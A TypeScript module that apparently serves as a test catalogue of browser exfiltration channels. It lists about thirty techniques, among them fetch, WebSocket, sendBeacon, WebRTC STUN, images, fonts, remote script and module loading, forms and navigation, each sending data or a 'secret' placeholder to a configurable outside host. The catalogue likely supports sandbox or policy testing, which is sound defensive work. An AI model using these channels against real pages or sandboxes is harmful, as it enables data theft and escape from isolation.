/** Where an attempt is to arrive. */
export interface Outside {
  readonly host: string;
  readonly datagrams: string;
}

/**
 * A way to get bytes out of a page. `run` stands alone: it is sent to the browser as text and runs there; where it
 * is text already, `HOST` is filled in.
 */
export interface Leak {
  readonly name: string;
  readonly run: string | ((outside: Outside) => unknown);
}

export const LEAKS: readonly Leak[] = [
  { name: 'fetch', run: ({ host }) => fetch(`http://${host}/fetch`, { mode: 'no-cors' }) },
  {
    name: 'XMLHttpRequest',
    run: ({ host }) => {
      const request = new XMLHttpRequest();
      request.open('POST', `http://${host}/xhr`);
      request.send('secret');
    },
  },
  { name: 'WebSocket', run: ({ host }) => void new WebSocket(`ws://${host}/websocket`) },
  { name: 'EventSource', run: ({ host }) => void new EventSource(`http://${host}/events`) },
  { name: 'sendBeacon', run: ({ host }) => navigator.sendBeacon(`http://${host}/beacon`, 'secret') },
  {
    name: 'peer connection (STUN)',
    run: async ({ datagrams }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${datagrams}` }] });
      peer.createDataChannel('secret');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'peer connection of a blank frame',
    run: async ({ datagrams }) => {
      const frame = document.body.appendChild(document.createElement('iframe'));
      const inner: unknown = frame.contentWindow;
      const Peer = (inner as typeof globalThis).RTCPeerConnection;
      const peer = new Peer({ iceServers: [{ urls: `stun:${datagrams}` }] });
      peer.createDataChannel('secret');
      await peer.setLocalDescription(await peer.createOffer());
    },
  },
  {
    name: 'fetch of a blank frame made by markup',
    run: ({ host }) => {
      document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');
      const inner: unknown = window[window.length - 1];
      return (inner as typeof globalThis).fetch(`http://${host}/frame-fetch`, { mode: 'no-cors' });
    },
  },
  {
    name: 'image',
    run: ({ host }) => {
      new Image().src = `http://${host}/image`;
    },
  },
  {
    name: 'image in styles',
    run: ({ host }) => {
      document.body.style.backgroundImage = `url(http://${host}/style-image)`;
    },
  },
  {
    name: 'style sheet',
    run: ({ host }) => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = `http://${host}/sheet`;
      document.head.append(link);
    },
  },
  {
    name: 'imported style',
    run: ({ host }) => {
      const style = document.createElement('style');
      style.textContent = `@import url(http://${host}/imported-style);`;
      document.head.append(style);
    },
  },
  {
    name: 'font',
    run: ({ host }) => {
      const font = new FontFace('secret', `url(http://${host}/font)`);
      document.fonts.add(font);
      return font.load();
    },
  },
  {
    name: 'prefetch',
    run: ({ host }) => {
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = `http://${host}/prefetch`;
      document.head.append(link);
    },
  },
  {
    name: 'preconnect',
    run: ({ host }) => {
      const link = document.createElement('link');
      link.rel = 'preconnect';
      link.href = `http://${host}/`;
      document.head.append(link);
    },
  },
  {
    name: 'script',
    run: ({ host }) => {
      const script = document.createElement('script');
      script.src = `http://${host}/script`;
      document.head.append(script);
    },
  },
  { name: 'imported script', run: `import('http://HOST/module')` },
  {
    name: 'video',
    run: ({ host }) => {
      const video = document.createElement('video');
      video.src = `http://${host}/video`;
      video.load();
    },
  },
  {
    name: 'object',
    run: ({ host }) => {
      const object = document.createElement('object');
      object.data = `http://${host}/object`;
      document.body.append(object);
    },
  },
  {
    name: 'frame',
    run: ({ host }) => {
      const frame = document.createElement('iframe');
      frame.src = `http://${host}/frame`;
      document.body.append(frame);
    },
  },
  {
    name: 'form in a new window',
    run: ({ host }) => {
      const form = document.createElement('form');
      form.action = `http://${host}/form`;
      form.target = '_blank';
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'button of a form',
    run: ({ host }) => {
      const form = document.createElement('form');
      form.action = `http://${host}/button`;
      const button = form.appendChild(document.createElement('button'));
      document.body.append(form);
      button.click();
    },
  },
  {
    name: 'blob worker',
    run: ({ host }) => {
      const code = `fetch('http://${host}/worker-fetch', { mode: 'no-cors' })`;
      return void new Worker(URL.createObjectURL(new Blob([code])));
    },
  },
  { name: 'new window', run: ({ host }) => void window.open(`http://${host}/window`) },
  {
    name: 'detached link to a new window',
    run: ({ host }) => {
      const link = document.createElement('a');
      link.href = `http://${host}/detached-link`;
      link.target = '_blank';
      link.click();
    },
  },
  {
    name: 'dispatched click to a new window',
    run: ({ host }) => {
      const link = document.createElement('a');
      link.href = `http://${host}/dispatched`;
      link.target = '_blank';
      link.dispatchEvent(new MouseEvent('click'));
    },
  },
  {
    name: 'download',
    run: ({ host }) => {
      const link = document.createElement('a');
      link.href = `http://${host}/download`;
      link.download = 'secret';
      link.click();
    },
  },
  {
    name: 'location',
    run: ({ host }) => {
      location.href = `http://${host}/location`;
    },
  },
  { name: 'location.replace', run: ({ host }) => location.replace(`http://${host}/replace`) },
  {
    name: 'link',
    run: ({ host }) => {
      const link = document.createElement('a');
      link.href = `http://${host}/link`;
      link.textContent = 'out';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'link drawn in SVG',
    run: ({ host }) => {
      const link = document.createElementNS('http://www.w3.org/2000/svg', 'a');
      link.setAttribute('href', `http://${host}/svg-link`);
      document.body.append(link);
      link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    },
  },
  {
    name: 'meta refresh',
    run: ({ host }) => {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=http://${host}/refresh`;
      document.head.append(meta);
    },
  },
];
